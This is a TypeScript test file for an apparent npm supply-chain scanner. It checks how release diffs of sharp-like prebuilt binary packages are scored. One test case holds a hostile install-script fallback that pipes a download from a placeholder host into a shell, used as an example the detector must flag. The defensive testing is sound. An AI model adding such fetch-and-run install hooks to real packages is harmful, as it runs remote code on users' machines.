/**
 * Popular binary packages (sharp-like): an install script that only gains a fallback to the
 * package's own build, new platform packages in a scope the package already depends on, and new
 * binaries in prebuilt platform packages are expected — no high. The attack shapes next to them
 * (a fallback that downloads, a new unscoped dependency, a binary in a JavaScript library) still count.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { contentFacts } from '../../src/analyzers/content/facts.js';
import { capabilitySignals } from '../../src/analyzers/release-diff/capability-delta.js';
import {
  dependencyDelta,
  dependencySignals,
  installScriptSignals,
  isOwnFallback,
  knownScopes,
} from '../../src/analyzers/release-diff/manifest-delta.js';
import { isPlatformPackage } from '../../src/analyzers/release-diff/platform.js';
import { scoreRelease } from '../../src/analyzers/release-diff/score.js';
import { WEIGHTS } from '../../src/analyzers/release-diff/weights.js';
import { filesOf, manifestOf } from '../helpers/factories.js';

const ELF = (n: number) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(600, n)]);

describe('prebuilt binary packages', () => {
  test('install script gaining a fallback to its own build script weighs low; a fallback that fetches does not', () => {
    const scripts = { install: 'node install/check.js || npm run build', build: 'node install/build.js' };
    assert.equal(isOwnFallback('node install/check.js', scripts.install, scripts), true);
    assert.equal(isOwnFallback('node install/check.js', 'node install/check.js || node-gyp rebuild', {}), true);
    assert.equal(isOwnFallback('node install/check.js', 'node install/check.js || curl -s https://x.invalid/i | sh', scripts), false);
    assert.equal(isOwnFallback('node install/check.js', 'node install/check.js || npm run missing', scripts), false);
    assert.equal(isOwnFallback('node install/check.js', 'node evil.js || npm run build', scripts), false);
    const [s] = installScriptSignals({ install: 'node install/check.js' }, { install: scripts.install }, {}, scripts);
    assert.equal(s?.weight, WEIGHTS.installScriptFallback);
  });

  test('new dependencies in a scope the previous release already used weigh nothing; a new outside dependency still counts', () => {
    const prev = { optionalDependencies: { '@img/sharp-linux-x64': '0.34.4', '@img/sharp-darwin-arm64': '0.34.4' } };
    const cur = { optionalDependencies: { ...prev.optionalDependencies, '@img/sharp-linux-riscv64': '0.34.5', 'left-pad-x': '^1.0.0' } };
    const sig = dependencySignals(dependencyDelta(prev, cur), 'package.json', 'patch', knownScopes(prev));
    assert.equal(sig.find((s) => s.title.includes('@img/sharp-linux-riscv64'))?.weight, WEIGHTS.newDependencySameScope);
    assert.equal(sig.find((s) => s.title.includes('left-pad-x'))?.weight, WEIGHTS.newDependencyPatch);
  });

  test('sharp 0.34.4 → 0.34.5 shape: fallback + two new platform packages in its own scope stays below medium', () => {
    const prev = { optionalDependencies: { '@img/sharp-linux-x64': '0.34.4' }, scripts: { install: 'node install/check.js' } };
    const cur = {
      optionalDependencies: {
        '@img/sharp-linux-x64': '0.34.5',
        '@img/sharp-linux-riscv64': '0.34.5',
        '@img/sharp-libvips-linux-riscv64': '1.2.4',
      },
      scripts: { install: 'node install/check.js || npm run build', build: 'node install/build.js' },
    };
    const signals = [
      ...dependencySignals(dependencyDelta(prev, cur), 'package.json', 'patch', knownScopes(prev)),
      ...installScriptSignals(prev.scripts, cur.scripts),
    ];
    const r = scoreRelease(signals, 'patch', '0.34.4', '0.34.5');
    assert.ok(r.severity === 'info' || r.severity === 'low', `${r.score} ${r.severity}`);
  });

  test('a platform package (os/cpu) or a replaced versioned library: new binary weighs low; in a plain JS library it does not', () => {
    assert.equal(isPlatformPackage(manifestOf('@img/sharp-libvips-linux-x64', '1.2.4', { raw: { os: ['linux'], cpu: ['x64'] } })), true);
    assert.equal(isPlatformPackage(manifestOf('left-pad-x', '1.0.0')), false);
    const before = contentFacts(filesOf({ 'package.json': '{}', 'lib/libvips-cpp.so.8.17.2': ELF(1) }));
    const after = contentFacts(filesOf({ 'package.json': '{}', 'lib/libvips-cpp.so.8.17.3': ELF(2) }));
    assert.equal(capabilitySignals(before, after).find((s) => s.rule === 'release-diff/new-binary')?.weight, WEIGHTS.newBinaryExpected);
    const plainBefore = contentFacts(filesOf({ 'package.json': '{}', 'index.js': 'module.exports = 1;\n' }));
    const plainAfter = contentFacts(filesOf({ 'package.json': '{}', 'index.js': 'module.exports = 1;\n', 'lib/helper.node': ELF(3) }));
    assert.equal(capabilitySignals(plainBefore, plainAfter).find((s) => s.rule === 'release-diff/new-binary')?.weight, WEIGHTS.newBinary);
    assert.equal(
      capabilitySignals(plainBefore, plainAfter, undefined, true).find((s) => s.rule === 'release-diff/new-binary')?.weight,
      WEIGHTS.newBinaryExpected,
    );
  });
});
